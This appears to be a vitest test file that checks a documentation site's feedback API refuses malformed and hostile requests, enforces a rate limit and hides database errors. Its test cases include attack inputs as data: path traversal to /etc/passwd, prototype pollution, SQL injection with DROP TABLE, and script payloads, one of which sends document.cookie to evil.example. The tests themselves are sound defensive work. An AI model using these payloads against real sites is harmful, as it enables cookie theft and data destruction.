import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FEEDBACK_API_ERRORS as E, FEEDBACK_RATE_LIMIT } from '../../src/spec/feedback';
import { FIXTURE_PAGES, makeFixtureSite } from './fixtureSite';
import { openFeedbackStore } from '../../site/server/feedbackStore';
import { NO_FLOOD_LIMIT, postJson, send, startServer, tempDb, type Answer, type Running } from './http';

const page = FIXTURE_PAGES[0]!;
const ok = { path: page, rating: 'up' };
const json = { 'content-type': 'application/json' };

interface Case {
  name: string;
  /** Sends the request; the answer is checked against `status` and `error`. */
  request: (origin: string) => ReturnType<typeof send>;
  status: number;
  error: string;
}
const post = (body: string | Buffer, headers: Record<string, string> = json, chunked = false) => (origin: string) =>
  send(origin, 'POST', '/api/feedback', { headers, body, chunked });
const value = (v: unknown) => post(JSON.stringify(v));

/** Every answer the API gave in this file, in order: the last test checks that together they use every error text of the spec. */
const answered: Answer[] = [];
const heard = (answer: Answer) => (answered.push(answer), answer);
/** Whether `text` is `message`, or for a message made from a value (unknownField), one made from any value. */
function isMessage(message: string | ((value: string) => string), text: string): boolean {
  if (typeof message === 'string') return text === message;
  const [before = '', after = ''] = message('\u0000').split('\u0000');
  return text.length >= before.length + after.length && text.startsWith(before) && text.endsWith(after);
}

const CASES: Case[] = [
  // Wrong content type: refused before the body is read.
  { name: 'text/plain body', request: post(JSON.stringify(ok), { 'content-type': 'text/plain' }), status: 415, error: E.notJson },
  { name: 'an HTML form post', request: post(`path=${page}&rating=up`, { 'content-type': 'application/x-www-form-urlencoded' }), status: 415, error: E.notJson },
  { name: 'multipart form data', request: post('--x\r\ncontent-disposition: form-data; name="rating"\r\n\r\nup\r\n--x--', { 'content-type': 'multipart/form-data; boundary=x' }), status: 415, error: E.notJson },
  { name: 'no content type', request: post(JSON.stringify(ok), {}), status: 415, error: E.notJson },
  { name: 'a look-alike type', request: post(JSON.stringify(ok), { 'content-type': 'application/jsonp' }), status: 415, error: E.notJson },
  // Bad JSON.
  { name: 'truncated JSON', request: post('{"path":"/docs/page-one","rating":'), status: 400, error: E.badJson },
  { name: 'an empty body', request: post(''), status: 400, error: E.badJson },
  { name: 'JSON with a comment and trailing comma', request: post('{"path":"/docs/page-one", /* x */ "rating":"up",}'), status: 400, error: E.badJson },
  { name: 'a gzip-encoded body (no request decompression)', request: post(gzipSync(JSON.stringify(ok)), { ...json, 'content-encoding': 'gzip' }), status: 400, error: E.badJson },
  // Not an object, wrong types.
  { name: 'a JSON array', request: value([ok]), status: 400, error: E.notObject },
  { name: 'a JSON string', request: value('up'), status: 400, error: E.notObject },
  { name: 'JSON null', request: post('null'), status: 400, error: E.notObject },
  { name: 'a number rating', request: value({ path: page, rating: 1 }), status: 400, error: E.ratingInvalid },
  { name: 'a boolean rating', request: value({ path: page, rating: true }), status: 400, error: E.ratingInvalid },
  { name: 'a path as an array', request: value({ path: [page], rating: 'up' }), status: 400, error: E.pathMissing },
  { name: 'a comment as an object', request: value({ ...ok, comment: { text: 'hi' } }), status: 400, error: E.commentNotString },
  { name: 'no rating', request: value({ path: page }), status: 400, error: E.ratingInvalid },
  // Unknown paths and fields.
  { name: 'an unknown page', request: value({ ...ok, path: '/docs/page-three' }), status: 400, error: E.pathUnknown },
  { name: 'a traversal path', request: value({ ...ok, path: '/docs/page-one/../../../etc/passwd' }), status: 400, error: E.pathUnknown },
  { name: 'an off-site URL as path', request: value({ ...ok, path: 'https://evil.example/docs/page-one' }), status: 400, error: E.pathUnknown },
  { name: 'an unknown field', request: value({ ...ok, email: 'someone@example.com' }), status: 400, error: E.unknownField('email') },
  { name: 'prototype pollution', request: post(`{"path":"${page}","rating":"up","__proto__":{"isAdmin":true}}`), status: 400, error: E.unknownField('__proto__') },
  { name: 'constructor pollution', request: value({ ...ok, constructor: { prototype: { isAdmin: true } } }), status: 400, error: E.unknownField('constructor') },
  // SQL-looking strings where only known values fit.
  { name: 'SQL in the path', request: value({ ...ok, path: `${page}' OR '1'='1` }), status: 400, error: E.pathUnknown },
  { name: 'SQL in the rating', request: value({ ...ok, rating: "up'); DROP TABLE feedback; --" }), status: 400, error: E.ratingInvalid },
  // Comments.
  { name: 'a <script> comment', request: value({ ...ok, comment: '<script>fetch("https://evil.example?c="+document.cookie)</script>' }), status: 400, error: E.commentMarkup },
  { name: 'an event-handler comment', request: value({ ...ok, comment: 'nice <img src=x onerror="alert(1)">' }), status: 400, error: E.commentMarkup },
  { name: 'a 2 001-character comment', request: value({ ...ok, comment: 'x'.repeat(2001) }), status: 400, error: E.commentTooLong },
  { name: 'a NUL in the comment', request: value({ ...ok, comment: 'cut\u0000off' }), status: 400, error: E.commentInvalid },
  // Huge.
  { name: 'a 17 KiB body', request: value({ ...ok, comment: 'x'.repeat(17 * 1024) }), status: 413, error: E.tooLarge },
  { name: 'a 17 KiB body sent chunked', request: post(JSON.stringify({ ...ok, comment: 'x'.repeat(17 * 1024) }), json, true), status: 413, error: E.tooLarge },
  { name: 'a 2 MB body', request: value({ ...ok, comment: 'x'.repeat(2 * 1024 * 1024) }), status: 413, error: E.tooLarge },
];

describe('hostile feedback bodies', () => {
  let server: Running;
  beforeAll(async () => {
    server = await startServer((await makeFixtureSite()).dir, await tempDb(), NO_FLOOD_LIMIT);
  });
  afterAll(() => server.close());

  it.each(CASES)('$name → $status with a clear message, nothing stored', async ({ request, status, error }) => {
    const before = server.store.count();
    const answer = heard(await request(server.origin));
    expect(answer.status).toBe(status);
    expect(answer.headers['content-type']).toMatch(/^application\/json/);
    expect(JSON.parse(answer.text)).toEqual({ error });
    expect(server.store.count()).toBe(before);
  });

  it('stores nothing from all of them together, and the table is intact', async () => {
    expect(server.store.count()).toBe(0);
    expect((await postJson(server.origin, ok)).status).toBe(201);
    expect(server.store.count()).toBe(1);
  });

  it('answers other /api/ addresses and methods with a JSON 404', async () => {
    for (const [method, url] of [['GET', '/api/feedback'], ['POST', '/api/feedbacks'], ['DELETE', '/api/feedback/1'], ['GET', '/api/']] as const) {
      const answer = heard(await send(server.origin, method, url, { headers: json, body: method === 'GET' ? undefined : '{}' }));
      expect(answer.status, `${method} ${url}`).toBe(404);
      expect(JSON.parse(answer.text).error).toMatch(/^No API route/);
    }
  });
});

describe('a flood past the rate limit', () => {
  it('gets 429 with retry-after after 10 a minute from one address, and stores nothing more', async () => {
    const server = await startServer((await makeFixtureSite()).dir, await tempDb());
    try {
      const answers = [];
      for (let i = 0; i < 25; i++) answers.push(heard(await postJson(server.origin, { ...ok, comment: `flood ${i}` })));
      expect(answers.slice(0, FEEDBACK_RATE_LIMIT.max).map((a) => a.status)).toEqual(Array(10).fill(201));
      for (const answer of answers.slice(FEEDBACK_RATE_LIMIT.max)) {
        expect(answer.status).toBe(429);
        expect(JSON.parse(answer.text)).toEqual({ error: E.rateLimited });
        expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
        expect(Number(answer.headers['retry-after'])).toBeLessThanOrEqual(60);
      }
      // Invalid bodies count too: the flood cannot switch to a wrong type to get through.
      expect((await send(server.origin, 'POST', '/api/feedback', { headers: { 'content-type': 'text/plain' }, body: 'x' })).status).toBe(429);
      expect(server.store.count()).toBe(FEEDBACK_RATE_LIMIT.max);
    } finally {
      await server.close();
    }
  });
});

describe('a store that cannot write', () => {
  it('answers 500 with a message to try later, not the database\'s error', async () => {
    const store = openFeedbackStore(await tempDb());
    const server = await startServer((await makeFixtureSite()).dir, { ...store, add: () => Promise.reject(new Error('SQLITE_FULL: database or disk is full')) }, NO_FLOOD_LIMIT);
    try {
      const answer = heard(await postJson(server.origin, ok));
      expect(answer.status).toBe(500);
      expect(answer.headers['cache-control']).toBe('no-store');
      expect(JSON.parse(answer.text)).toEqual({ error: E.storeFailed });
      expect(store.count()).toBe(0);
    } finally {
      await server.close();
    }
  });
});

// Last in the file: it reads what the tests above were answered.
describe('the cases together', () => {
  it('were answered with every error text of the API (src/spec/feedback.ts): a new error needs a case', () => {
    const errors = answered.map((answer) => (JSON.parse(answer.text) as { error?: string }).error ?? '');
    const unheard = Object.entries(E).filter(([, message]) => !errors.some((text) => isMessage(message, text)));
    expect(unheard.map(([name]) => name)).toEqual([]);
  });
});
